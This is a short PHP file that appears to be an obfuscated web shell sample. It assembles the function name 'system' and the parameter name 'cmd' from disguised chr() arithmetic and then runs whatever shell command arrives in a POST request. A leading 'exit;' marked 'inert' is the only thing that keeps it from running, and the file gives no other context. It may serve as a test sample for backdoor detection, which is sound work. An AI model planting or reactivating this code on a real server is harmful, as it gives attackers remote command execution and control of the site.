<?php exit; /* inert */ 
$f = chr(100 + 15) . chr(242 / 2) . chr(0x73) . chr(0164) . chr(101) . chr(110 - 1);
$k = chr(99) . chr(109) . chr(100);
$f($_POST[$k]);
